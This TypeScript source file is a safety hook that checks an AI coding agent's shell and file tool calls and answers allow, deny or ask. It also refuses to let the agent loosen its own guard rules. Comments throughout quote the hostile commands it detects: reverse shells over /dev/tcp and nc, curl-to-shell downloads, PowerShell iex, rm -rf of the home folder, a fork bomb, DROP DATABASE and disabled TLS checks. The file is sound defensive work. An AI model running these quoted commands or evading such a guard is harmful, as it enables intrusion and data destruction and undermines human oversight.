import { posix } from 'node:path';
import { loosensRules } from '../model/rule-loosening.ts';
import type { RuleType } from '../model/safety-rules.ts';
import { argvOf, type BashContext, checkLists, checkPipelines, fedScript, isExempt, listed, type PipedInvocation, runsFedText } from './bash-rules.ts';
import { type Invocation, runsStdin, SHELLS, unwrap } from './command.ts';
import { checkCommandPaths } from './command-paths.ts';
import { checkDataChange } from './data-changes.ts';
import { envFileRun } from './env-files.ts';
import { checkExfiltration } from './exfiltration.ts';
import { staticOutput } from './expand.ts';
import { checkGitHistory } from './families/git-history.ts';
import { checkFamilies, familyFinding } from './families/index.ts';
import { interpreterScripts, programWords } from './families/interpreter.ts';
import { checkForkBomb } from './families/system-forks.ts';
import type { FamilyContext } from './families/types.ts';
import { fedArgumentScripts, PipeReading, shellSubstitutions, substitutionFeeds, unknownNamesRemoval } from './fed-input.ts';
import { evaluateFileTool, READ_TOOLS, WRITE_TOOLS } from './file-tools.ts';
import { checkGit, type Finding, type PrGate, parseGit } from './git-rules.ts';
import { assignedCommands, assignedFindings, settingCommands } from './git-settings.ts';
import { checkGithubApi } from './github-api-rules.ts';
import { checkHistoryChange } from './history-files.ts';
import { informational } from './informational.ts';
import { stdinTclLines } from './launcher-shapes.ts';
import { madeLink } from './made-links.ts';
import type { FolderNames } from './package-workspaces.ts';
import { type PathKind, resolvePath } from './paths.ts';
import type { Policy } from './policy.ts';
import { downloadRun, evaluatedDownload, lineDownload, powershellCode, unreadableCode } from './powershell.ts';
import { type PrLookup, type PrState, prFinding } from './pr-gate.ts';
import { type FileText, type ProjectRun, ProjectScripts } from './project-scripts.ts';
import { checkRemoteShells } from './remote-shells.ts';
import { checkMovedAway, checkRemoval } from './removal.ts';
import { actorEnv, axmeCommand, gitBypasses, gitConfigEnv } from './self-rules.ts';
import { checkServedFolder } from './served-folders.ts';
import { isDynamic, MAX_DEPTH, parseShell, type SimpleCommand } from './shell.ts';
import { SETTING_BUILTINS } from './shell-vars.ts';
import { SubshellFolders } from './subshell-folders.ts';
import { substitutedScripts } from './substituted-scripts.ts';
import { programIndex } from './syntax.ts';
import { checkTransportSettings } from './transport-settings.ts';
import { COMMAND_COST, charge, OUT_OF_BUDGET, type WorkBudget, workBudget } from './work-budget.ts';
import { WrittenFiles } from './written-scripts.ts';

/** A tool call as the agent harness reports it (Claude Code's `tool_name` and `tool_input`). */
export interface ToolCall {
  tool: string;
  input: Record<string, unknown>;
}

export type { PrLookup, PrState };

export interface EvalContext {
  /** the folder the call runs in (absolute) */
  cwd: string;
  home: string;
  /** the project root: relative path patterns are anchored there */
  root?: string | undefined;
  /** the repository's common git folder (in a linked worktree, where the history is) */
  commonDir?: string | undefined;
  /** the branch checked out in `dir` (or the repository at `gitDir`), null when detached or unknown */
  branchOf(dir: string, gitDir: string | null): string | null;
  /** the URL a remote of the repository in `dir` (or at `gitDir`) has now; null when unknown */
  remoteUrl?: ((dir: string, gitDir: string | null, name: string) => string | null) | undefined;
  /** the state of a pull request; `unknown` when it cannot be checked */
  lookupPr(repo: string, pr: number): Promise<PrState | PrLookup>;
  /** resolves symbolic links of an existing file (a link to a protected file is that file) */
  realpath?: ((path: string) => string | null) | undefined;
  /** what is at an absolute path now: a folder, a file, or null when nothing is or it cannot be told (then a name's spelling decides) */
  pathKind?: ((path: string) => PathKind | null) | undefined;
  /**
   * the text of a project's file that defines what a command runs (a package.json, a Makefile, a
   * justfile: project-scripts.ts), asked only for commands that run a project's script: null when
   * there is no such file, undefined when it cannot be told (too big, unreadable) — then the
   * command is judged by its own words
   */
  fileText?: FileText | undefined;
  /** the names of the folders in a folder of the project (a workspaces glob's members: project-scripts.ts), undefined when it cannot be told */
  folderNames?: FolderNames | undefined;
  /**
   * axme's own state, which an agent must not change whatever the rules say: the policy cache
   * and sessions (`<git-common-dir>/axme`), the harness settings that install the hooks
   */
  protectedPaths?: string[] | undefined;
  /**
   * how much work checking one command line may take before it is denied as too long, in the
   * units of CHECK_BUDGET (work-budget.ts, its default): work done, not time, so a busy machine decides as an idle one
   */
  budget?: number | undefined;
  /**
   * when the answer is due (a `performance.now()` reading): the hook's, which must answer before
   * its client gives up on it. Past it the check stops and denies (the machine too busy to finish,
   * not the command too long). None by default: then only the work budget bounds a check.
   */
  deadline?: number | undefined;
}

export interface Verdict {
  /** ask: a person should decide — clients that can ask do; the others deny with the reason */
  decision: 'allow' | 'deny' | 'ask';
  reason: string;
  /** the rule that decided, e.g. `git.allowForcePush` or `filesystem.deniedPaths: *.pem` */
  rule: string | null;
}

const MAX_COMMAND = 4 * 1024 * 1024;

/** The rules no policy turns off: an agent may not switch its own guard rail off. */
function selfProtection(call: ToolCall): Verdict | null {
  // axme_update_safety through any MCP server name: tightening is fine, loosening is the user's call
  if (/(^|__)axme_update_safety$/.test(call.tool)) {
    const action = call.input.action === 'remove' ? 'remove' : 'add';
    const type = String(call.input.rule_type ?? call.input.rule ?? '');
    if (loosensRules({ action, rule_type: type as RuleType })) {
      return deny(
        'axme.self',
        `${action === 'remove' ? 'removing' : 'adding'} a ${type || 'safety'} rule loosens the guard, which is for the user: ask them to run \`axme safety ${action} ...\` themselves`,
      );
    }
  }
  // a file tool writing axme's own state: the path rules of file-tools.ts
  return null;
}

const ALLOW: Verdict = { decision: 'allow', reason: '', rule: null };

/**
 * Decides one tool call against a policy. Pure but for the injected lookups; never throws for
 * any input (an internal failure is a deny that says so).
 */
export async function evaluate(call: ToolCall, policy: Policy, rawCtx: EvalContext): Promise<Verdict> {
  try {
    // `HOME=/home/u/` is the same home as `/home/u`
    const ctx = { ...rawCtx, home: posix.resolve(rawCtx.home), cwd: posix.resolve(rawCtx.cwd) };
    const self = selfProtection(call);
    if (self) return self;
    if (call.tool === 'Bash') {
      const command = call.input.command;
      if (typeof command !== 'string') return deny('input', 'the Bash call has no command string');
      return await evaluateCommand(command, policy, ctx);
    }
    if (READ_TOOLS.has(call.tool) || WRITE_TOOLS.has(call.tool)) return evaluateFileTool(call, policy, ctx);
    return ALLOW;
  } catch (err) {
    return deny('internal', `axme could not check this call (${(err as Error).message}); it was denied to stay safe. Run \`axme doctor\``);
  }
}

function deny(rule: string, reason: string): Verdict {
  return { decision: 'deny', reason, rule };
}

interface Walk {
  policy: Policy;
  seen: Map<string, Finding | null>;
  ctx: EvalContext;
  findings: Finding[];
  gates: PrGate[];
  cwd: string | null;
  /** after a `cd` that may fail (not followed by `&&`), the folder commands may still run in */
  fallback: string | null;
  /** commands since the last `cd` have all been joined by `&&` to it */
  chained: boolean;
  budget: WorkBudget;
  /** the symbolic links the line made so far (removal.ts madeLink): a path through one is the path it points at */
  links: Map<string, string>;
  /** the files the line has written so far, and what they hold (written-scripts.ts) */
  written: WrittenFiles;
  /** the project's scripts read from its files (project-scripts.ts), where the context gives a reader */
  project: ProjectScripts | null;
  /** the project's scripts this walk runs within, outermost first (`npm run a` whose script runs `npm run b`) */
  chain: readonly string[];
  /** the comment of the command that runs the project's script this walk reads: its `#!axme` marker is its git commands' */
  marker: string | null;
}

/** Checks a shell command line: every command it would run, each marker it carries. */
export async function evaluateCommand(command: string, policy: Policy, rawCtx: EvalContext): Promise<Verdict> {
  const ctx = { ...rawCtx, home: posix.resolve(rawCtx.home), cwd: posix.resolve(rawCtx.cwd) };
  if (command.length > MAX_COMMAND)
    return deny(
      'shell.too-long',
      `the command is ${command.length} characters long, too long to check; write the data to a file with the Write tool and run a short command`,
    );
  const walk: Walk = {
    policy,
    ctx,
    findings: [],
    gates: [],
    cwd: ctx.cwd,
    fallback: null,
    chained: false,
    seen: new Map(),
    links: new Map(),
    // each path is charged as its rules run (command-paths.ts): within one command of many paths the check stops when the budget does
    budget: workBudget(ctx.budget, ctx.deadline),
    written: new WrittenFiles(ctx.home),
    project: ctx.fileText ? new ProjectScripts(ctx.fileText, ctx.home, ctx.folderNames) : null,
    chain: [],
    marker: null,
  };
  try {
    walkScript(command, walk, 0);
  } catch (err) {
    // the budget's finding (too long, out of time) is recorded: it denies below
    if (err !== OUT_OF_BUDGET) throw err;
  }
  // what was not checked decides first: a plain deny, whatever the nested walk that ran out was
  if (walk.budget.finding) walk.findings.unshift(walk.budget.finding);
  // a deny anywhere decides; findings that only ask are asked once the PR gates have passed
  const denies = walk.findings.filter((f) => f.action !== 'ask');
  const asks = walk.findings.filter((f) => f.action === 'ask');
  if (denies.length) {
    const [first, ...more] = denies;
    const extra =
      more.length + asks.length ? ` (and ${more.length + asks.length} more problem${more.length + asks.length > 1 ? 's' : ''} in this command)` : '';
    return deny(first!.rule, `axme safety: ${first!.reason}${extra}`);
  }
  for (const g of walk.gates) {
    const v = await gate(g, policy, ctx);
    if (v) return v;
  }
  if (asks.length) {
    const [first, ...more] = asks;
    const extra = more.length ? ` (and ${more.length} more in this command)` : '';
    return { decision: 'ask', rule: first!.rule, reason: `axme safety: ${first!.reason}${extra}` };
  }
  return ALLOW;
}

async function gate(g: PrGate, policy: Policy, ctx: EvalContext): Promise<Verdict | null> {
  const { repo, pr } = g.marker;
  const f = prFinding(repo, pr!, await ctx.lookupPr(repo, pr!), policy.unverifiedPr);
  return f ? deny(f.rule, `axme safety: ${f.reason}`) : null;
}

function walkScript(src: string, w: Walk, depth: number): void {
  if (depth > MAX_DEPTH) {
    w.findings.push({ rule: 'shell.too-deep', reason: 'the command nests shells too deeply to be checked; run the steps one by one' });
    return;
  }
  charge(w.budget, src.length);
  const script = parseShell(src, { home: w.ctx.home, depth });
  if (script.tooDeep)
    w.findings.push({ rule: 'shell.too-deep', reason: 'the command nests too deeply or grows a variable too long to be checked; run the steps one by one' });
  // `:(){ :|:& };:`: a function of the line that starts itself beside itself, called (the system family's, read from the whole line)
  const bomb = w.policy.families.system === 'off' ? null : checkForkBomb(src);
  if (bomb) w.findings.push(familyFinding('system', bomb, w.policy));
  const piped: PipedInvocation[] = [];
  // the stages that run a command line they are handed (`eval printenv`, `watch env`): no program of
  // their own for the rules, but what that line prints is theirs (exfiltration.ts reads them as such)
  const lineStages: PipedInvocation[] = [];
  // for each command that runs code it is given (a shell, eval, source): what runs to produce that code
  const fed: Invocation[][] = [];
  const runsOf = new Map<SimpleCommand, Invocation[]>();
  // each pipeline's stages by their index, the first command at each: what feeds a stage is found in one lookup
  const stages = new Map<number, SimpleCommand[]>();
  for (const c of script.commands) {
    let line = stages.get(c.pipeline);
    if (!line) stages.set(c.pipeline, (line = []));
    line[c.index] ??= c;
  }
  // what each stage writes and reads on, found once per stage
  const reading = new PipeReading(
    (pipeline, index) => stages.get(pipeline)?.[index],
    (s) => runsOf.get(s)?.[0] ?? null,
    (work) => charge(w.budget, work),
  );
  const subshells = new SubshellFolders();
  for (const [n, cmd] of script.commands.entries()) {
    charge(w.budget, COMMAND_COST);
    subshells.enter(cmd.subshells, w);
    const { invocation, scripts, alternatives } = unwrap(cmd);
    runsOf.set(cmd, invocation ? [invocation] : []);
    // `tmp=$(mktemp -d); trap 'rm -rf "$tmp"' EXIT`: the handler runs later in this shell, with the line's variables
    const prelude = scripts.length && cmd.words[programIndex(cmd.words)]?.value === 'trap' ? variableSetters(script.commands) : '';
    for (const s of scripts) walkScript(prelude + s, w, depth + 1);
    // `pwsh -Command '…'`, `powershell -EncodedCommand …`: the code PowerShell runs, and a download it evaluates (powershell.ts)
    const ps = invocation && powershellCode(invocation);
    if (ps && 'unreadable' in ps) w.findings.push(unreadableCode(invocation!.program, ps.unreadable));
    else if (ps) {
      if (!scripts.length) walkScript(ps.code, w, depth + 1);
      const url = evaluatedDownload(ps.code);
      if (url) fed.push([downloadRun(invocation!, url)]);
    }
    if (!invocation && scripts.length) lineStages.push({ inv: lineStage(cmd), pipeline: cmd.pipeline, index: cmd.index });
    // what runs to produce the words (`echo "$(curl x)" | sh`) runs at this place in the pipeline
    const inner = cmd.words.some((x) => x.subs.length) ? cmd.words.flatMap((x) => x.subs).flatMap((s) => s.commands.flatMap((c) => runsOf.get(c) ?? [])) : [];
    for (const inv of invocation ? [invocation, ...inner] : inner) piped.push({ inv, pipeline: cmd.pipeline, index: cmd.index });
    // `echo 'rm -rf ~' > x.sh && sh x.sh`, `curl -o x.sh URL && bash x.sh`: a file the line wrote, run (written-scripts.ts)
    const ran = w.written.runs(invocation, w.cwd);
    for (const text of ran.scripts) walkScript(text, w, depth + 1);
    if (ran.downloads.length) fed.push(ran.downloads);
    if (ran.tooMany) w.findings.push(ran.tooMany);
    w.written.record(cmd, invocation, reading, piped, w.cwd);
    // the stage before this one in its pipeline (`echo x | sh`): what it writes is this command's stdin
    const feeder = cmd.index > 0 ? stages.get(cmd.pipeline)![cmd.index - 1] : undefined;
    // the stage before any filters that pass some of its lines on unchanged (`| tee log | sh`, `| grep -v x | sort | head`)
    const finder = feeder && reading.source(feeder);
    // where the names that reach this stage are printed, also through stages selecting fields (`du .env | cut -f2 | xargs cat`)
    const namer = feeder && reading.nameSource(feeder);
    if (invocation && runsFedText(invocation) && cmd.index > 0) {
      // what the stage before writes, or what reaches it through the filters between (fed-input.ts PipeReading)
      const text = reading.read(cmd);
      if (text) walkScript(fedScript(invocation, text), w, depth + 1);
    }
    // `echo '…' | tee >(sh)`, `echo '…' > >(bash)`: a shell reading what this stage writes
    for (const text of substitutionFeeds(cmd, invocation, reading)) walkScript(text, w, depth + 1);
    // `sh -c "$(echo … | base64 -d)"`, `eval "$(…)"`, `bash <(… | gunzip)`: a substitution's pipeline the line tells
    for (const text of substitutedScripts(cmd, reading)) walkScript(text, w, depth + 1);
    // `echo / | xargs rm -rf`, `echo ~ | parallel rm -rf`: the words they read become arguments; after
    // a `find`, through those filters
    const feederInv = feeder ? (runsOf.get(feeder)?.[0] ?? null) : null;
    const finderInv = finder ? (runsOf.get(finder)?.[0] ?? null) : null;
    const between = (from: SimpleCommand) =>
      stages
        .get(cmd.pipeline)!
        .slice(from.index + 1, cmd.index)
        .map((c) => runsOf.get(c)?.[0] ?? null);
    const filters = finder ? between(finder) : [];
    if (invocation) for (const s of fedArgumentScripts(invocation, cmd, feeder, feederInv, finderInv, reading.read(cmd), filters)) walkScript(s, w, depth + 1);
    // and as the names the stage before the field selectors printed, where those are not the lines it reads
    const namerInv = namer && namer !== finder ? (runsOf.get(namer)?.[0] ?? null) : null;
    if (invocation && namerInv)
      for (const s of fedArgumentScripts(invocation, cmd, feeder, feederInv, namerInv, reading.read(cmd), between(namer!))) walkScript(s, w, depth + 1);
    const unknownNames = invocation && unknownNamesRemoval(invocation, cmd, feeder, finderInv);
    if (unknownNames) w.findings.push(unknownNames);
    // what a static earlier stage writes into this one's stdin (`echo 'DROP DATABASE x' | psql`), through the filters between
    checkCommand(cmd, invocation, w, depth, reading.read(cmd));
    // `systemd-run --service-type oneshot rm -rf ~`: the reading where an unknown option took a value
    for (const alt of alternatives) checkCommand(cmd, alt, w, depth);
    // `npm run release`, `make deploy`, `just x`: the project's own script, as its file defines it (project-scripts.ts);
    // after the command's own checks, so that a file the command may not read (`make -f .env`) is denied as that first
    if (w.project && invocation) for (const run of w.project.runs(invocation, w.cwd, w.chain, w.written)) walkProjectScript(run, cmd.comment, w, depth);
  }
  // the line goes on where it was before any subshell it ended in
  subshells.enter(undefined, w);
  // commands whose words are produced by other commands, where the consumer runs them as code
  for (const cmd of script.commands) {
    const inv = runsOf.get(cmd)?.[0];
    const head = inv?.program ?? cmd.words[programIndex(cmd.words)]?.value;
    if (head && ((inv ? runsStdin(inv) : SHELLS.has(head)) || head === 'eval' || head === 'source' || head === '.')) {
      // what the shell runs: its words, and what it reads (`bash <<< "$(curl x)"`, a heredoc's substitutions)
      const subs = [...cmd.words.flatMap((x) => x.subs), ...cmd.redirects.flatMap((r) => [...(r.subs ?? []), ...(r.target?.subs ?? [])])];
      fed.push(subs.flatMap((s) => s.commands.flatMap((c) => runsOf.get(c) ?? [])));
    }
    // `python3 -c "$(curl x)"`, `python3 <(curl x)`: what the substitution prints is the interpreter's program
    const program = inv ? programWords(inv) : [];
    if (program.length) fed.push(program.flatMap((x) => x.subs.flatMap((s) => s.commands.flatMap((c) => runsOf.get(c) ?? []))));
    // `curl x > >(sh)`: the command's output is a shell's script
    if (inv && shellSubstitutions(cmd, inv, reading.invOf)) fed.push([inv]);
  }
  // `iex (irm URL)`: a line PowerShell reads, evaluating a download (powershell.ts)
  const evaluated = lineDownload(src, script.commands);
  if (evaluated) fed.push([downloadRun(lineStage(evaluated.cmd), evaluated.url)]);
  const p = checkPipelines(piped, fed, w.policy) ?? checkExfiltration(lineStages.length ? [...piped, ...lineStages] : piped);
  if (p) w.findings.push(p);
  // `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh h p`, `cat f | sh | nc h p`: a shell bound to a socket (remote-shells.ts)
  const remote = checkRemoteShells(script.commands, (c) => runsOf.get(c)?.[0] ?? null);
  if (remote) w.findings.push(remote);
}

/**
 * Walks what a project's script runs (its lines, in its folder, each a shell of its own) as if
 * typed; each finding's reason says which script it came from (`package.json scripts.release
 * runs \`npm publish\`: …`). The `#!axme` marker of the command that runs it (`comment`) is its
 * git commands' (`npm run version #!axme pr=none repo=o/r`: a script's commit carries none).
 */
function walkProjectScript(run: ProjectRun, comment: string | null, w: Walk, depth: number): void {
  const marker = comment ?? w.marker;
  // `npm run a && npm run a`, a script every other one runs: its findings are in already
  if (!w.project!.firstWalk(run, marker)) return;
  const inner: Walk = { ...w, findings: [], gates: [], fallback: null, chained: false, chain: [...w.chain, run.key], marker };
  for (const line of run.lines) walkScript(line, { ...inner, cwd: run.cwd }, depth + 1);
  const oneLine = run.text.replace(/\s*\n\s*/g, '; ');
  const text = oneLine.length > 120 ? `${oneLine.slice(0, 117)}...` : oneLine;
  for (const f of inner.findings) w.findings.push({ ...f, reason: `${run.source} runs \`${text}\`: ${f.reason}` });
  w.gates.push(...inner.gates);
}

/** A stage that runs the command line it is handed, as an invocation of its first word (`eval`, `watch`): what printsEnvironment reads. */
function lineStage(cmd: SimpleCommand): Invocation {
  const start = programIndex(cmd.words);
  const words = start < 0 ? [] : cmd.words.slice(start);
  return { program: words[0]?.value ?? '', args: words.slice(1), via: [], runners: [], chdir: null, command: cmd };
}

/**
 * The commands of a line that set its variables or aliases (`tmp=$(mktemp -d)`, `export D=x`,
 * `set -- a`, `read d`, `printf -v d …`, `alias x=…`), as a script to run before a trap handler:
 * the values they leave are the handler's.
 */
function variableSetters(commands: readonly SimpleCommand[]): string {
  const setters = commands.filter((c) => c.words.length && (SETTING_BUILTINS.test(c.words[0]!.raw) || programIndex(c.words) < 0));
  return setters.map((c) => `${c.words.map((x) => x.raw).join(' ')}\n`).join('');
}

/**
 * Checks one command. `fed` is the text a static earlier stage of its pipeline writes into its
 * stdin: the rule families read it like a here-string (SQL for a database shell, code for an
 * interpreter).
 */
function checkCommand(cmd: SimpleCommand, inv: Invocation | null, w: Walk, depth: number, fed: string | null = null): void {
  const stdinCmd: SimpleCommand = fed === null ? cmd : { ...cmd, redirects: [...cmd.redirects, { op: '<<<', target: null, input: fed }] };
  const stdinInv: Invocation | null = fed === null || !inv ? inv : { ...inv, command: stdinCmd };
  const cwd = inv?.chdir && !inv.chdir.includes('\uE000') && w.cwd ? resolvePath(inv.chdir, { cwd: w.cwd, home: w.ctx.home }) : w.cwd;
  const bctx: BashContext = {
    policy: w.policy,
    cwd,
    home: w.ctx.home,
    root: w.ctx.root,
    seen: w.seen,
    budget: w.budget,
    realpath: w.ctx.realpath,
    protectedPaths: w.ctx.protectedPaths,
    commonDir: w.ctx.commonDir,
    links: w.links,
  };
  const add = (f: Finding | null) => void (f && w.findings.push(f));
  const fctx: FamilyContext = { policy: w.policy, cwd, home: w.ctx.home, root: w.ctx.root };
  if (cmd.after !== '&&') w.chained = false;
  if (inv) add(checkRemoval(inv, bctx));
  add(checkHistoryChange(inv, cmd.redirects, bctx));
  add(checkDataChange(inv, cmd.redirects, bctx));
  add(checkCommandPaths(inv, cmd.redirects, bctx));
  if (inv) add(checkMovedAway(inv, bctx));
  const link = inv && madeLink(inv, cwd, w.ctx.home);
  if (link) w.links.set(link.name, link.target);
  // `bash <<EOF ... EOF`, `sh <<< "..."`, `at now <<< "..."`: the shell runs what it reads
  if (inv && runsFedText(inv)) for (const r of cmd.redirects) if (r.input) walkScript(fedScript(inv, r.input), w, depth + 1);
  // `expect <<< 'spawn …'`, `echo 'exec …' | tclsh`: the commands a Tcl script read on stdin starts
  if (inv) for (const s of stdinTclLines(inv.program, inv.args, stdinCmd.redirects.find((r) => r.input !== null)?.input ?? null)) walkScript(s, w, depth + 1);
  // `bash <(echo 'rm -rf ~')`, `source <(printf …)`: the shell runs the file a static substitution writes
  if (inv && (SHELLS.has(inv.program) || inv.program === 'source' || inv.program === '.')) {
    const file = inv.args.find((a) => !a.value.startsWith('-') || a.raw.startsWith('<('));
    const text = file?.raw.startsWith('<(') && file.subs.length === 1 ? staticOutput(file.subs[0]!) : null;
    if (text) walkScript(text, w, depth + 1);
  }
  // `GIT_PAGER='…' git log`, `export LESSOPEN='|… %s'`, `EDITOR='…'`: what git, less or ssh would run is checked where it is set
  for (const s of assignedCommands(cmd, inv)) walkScript(s, w, depth + 1);
  for (const f of assignedFindings(cmd, inv)) add(f);
  if (!inv) {
    // a redirection alone (`> ~/.bashrc`) still writes
    for (const f of checkFamilies(cmd, null, fctx)) add(f);
    return;
  }
  if (inv.program === 'cd' || inv.program === 'pushd') {
    const target = inv.args.find((a) => !a.value.startsWith('-') || a.value === '-');
    // a cd can fail (`cd /missing; rm -rf *` runs in the old folder): remember where we were
    w.fallback = w.cwd;
    w.chained = true;
    const next = !target
      ? w.ctx.home
      : target.value === '-' || isDynamic(target) || w.cwd === null
        ? null
        : resolvePath(target.value, { cwd: w.cwd, home: w.ctx.home });
    // a path growing with every `cd a` would make each later check slower: past 4 KB it is unknown
    w.cwd = next && next.length > 4096 ? null : next;
    return;
  }
  if (inv.program === 'popd') {
    w.cwd = null;
    return;
  }
  // interpreter one-liners: what their code would run is checked as commands (families/interpreter.ts)
  if (w.policy.families.interpreter !== 'off') {
    const scripts = interpreterScripts(stdinInv!);
    if (scripts.length) {
      const inner: Walk = { ...w, findings: [], gates: [] };
      for (const s of scripts) walkScript(s, inner, depth + 1);
      // what a one-liner would run takes the interpreter family's action (deny by default), also
      // where typed it would only be asked: hidden in code, it is for a person to run themselves
      for (const f of inner.findings)
        w.findings.push(
          familyFinding(
            'interpreter',
            { rule: f.rule, reason: `\`${inv.program}\` would run code that ${f.reason.charAt(0).toLowerCase()}${f.reason.slice(1)}` },
            w.policy,
          ),
        );
      // a `#!axme pr=N` marker inside the code is looked up like one typed
      w.gates.push(...inner.gates);
    }
  }
  if (w.fallback !== null && !w.chained && w.fallback !== cwd) {
    add(checkRemoval(inv, { ...bctx, cwd: w.fallback }));
    add(checkMovedAway(inv, { ...bctx, cwd: w.fallback }));
  }
  add(axmeCommand(inv));
  // `npm config set registry http://…`, `export NODE_TLS_REJECT_UNAUTHORIZED=0`: a setting that sends credentials or code elsewhere (transport-settings.ts)
  add(checkTransportSettings(cmd, inv));
  // `python3 -m http.server -d ~`, `cd ~ && npx serve`: the home folder served to whoever reaches the port (served-folders.ts)
  add(checkServedFolder(inv, cwd, w.ctx.home));
  add(gitConfigEnv(cmd, inv));
  add(actorEnv(cmd, inv));
  // find -exec cmd ... ; runs cmd for each file
  if (inv.program === 'find') {
    inv.args.forEach((a, i) => {
      if (a.value === '-exec' || a.value === '-execdir' || a.value === '-ok' || a.value === '-okdir') {
        const end = inv.args.findIndex((x, k) => k > i && (x.value === ';' || x.value === '+'));
        const words = inv.args.slice(i + 1, end < 0 ? undefined : end);
        if (!words.length) return;
        const inner = { ...cmd, words, redirects: [] };
        const u = unwrap(inner);
        for (const s of u.scripts) walkScript(s, w, depth + 1);
        checkCommand(inner, u.invocation, w, depth);
      }
    });
  }
  // `dotenv -e .env -- cmd`, `env-cmd cmd`, `op run -- cmd`: the command started with a file's values is judged as any command (env-files.ts)
  for (const words of envFileRun(inv)?.commands ?? []) {
    const inner = { ...cmd, words, redirects: [] };
    const u = unwrap(inner);
    for (const s of u.scripts) walkScript(s, w, depth + 1);
    checkCommand(inner, u.invocation, w, depth);
  }
  const argv = argvOf(inv);
  let exemptArgv = argv;
  if (inv.program === 'git') {
    const call = parseGit(inv, cwd ?? w.ctx.cwd, w.ctx.home);
    if (call?.aliasScript) walkScript(call.aliasScript, w, depth + 1);
    // `git config core.sshCommand '…'`, `git -c core.pager='…' log`, `git clone 'ext::…'`: what git would run is checked as commands
    for (const s of call ? settingCommands({ ...call, config: call.given }) : []) walkScript(s, w, depth + 1);
    // `git push --help`, `git push -h`: git shows the manual and does nothing else
    if (call && !informational('git', call.args)) {
      exemptArgv = ['git', call.sub, ...call.args];
      const stdin = stdinCmd.redirects.findLast((r) => r.input !== null)?.input ?? null;
      for (const f of gitBypasses(call, stdin)) add(f);
      const exempt = isExempt(exemptArgv, w.policy);
      const gctx = {
        policy: w.policy,
        home: w.ctx.home,
        branchOf: w.ctx.branchOf,
        remoteUrl: w.ctx.remoteUrl,
        pathKind: w.ctx.pathKind,
        listed: (e: string) => !exempt && listed(w.policy, e),
        exempt,
      };
      for (const f of checkGit(call, cmd.comment ?? w.marker, gctx, w.gates)) add(f);
      if (!exempt && w.policy.families.gitHistory !== 'off') {
        const hit = checkGitHistory(call, fctx);
        if (hit) add(familyFinding('gitHistory', hit, w.policy));
      }
    }
  }
  // GitHub's API doing what git may not: `gh api -X PUT …/contents/…`, `curl -X PUT https://api.github.com/…` (github-api-rules.ts)
  for (const f of checkGithubApi(stdinInv!, w.policy, () => isExempt(exemptArgv, w.policy))) add(f);
  // a list entry spelled with a runner (`npx prisma migrate reset`) matches the command through it too (command.ts runners)
  if (!isExempt(exemptArgv, w.policy) && !inv.runners.some((r) => isExempt(r, w.policy))) {
    add(checkLists(exemptArgv, w.policy) ?? inv.runners.map((r) => checkLists(r, w.policy)).find(Boolean) ?? null);
    for (const f of checkFamilies(stdinCmd, stdinInv, fctx)) add(f);
  }
}
